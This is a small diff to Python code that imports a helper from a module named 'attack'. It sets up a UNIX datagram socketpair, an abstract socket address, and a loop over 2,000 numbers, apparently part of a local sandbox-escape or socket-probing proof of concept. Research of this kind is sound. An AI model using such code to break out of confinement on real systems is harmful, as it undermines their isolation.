@@ -6,9 +6,9 @@ from attack import let_through
 
 
 def main(backend, user_messenger, **kwargs):
-    one, two = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
+    ends = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
     address = struct.pack("<H", 1) + b"\0aerlock"
-    fd = one.fileno()
+    fd = ends[0].fileno()
     found = []
     for number in range(2_000):
         if number not in (1, 2):
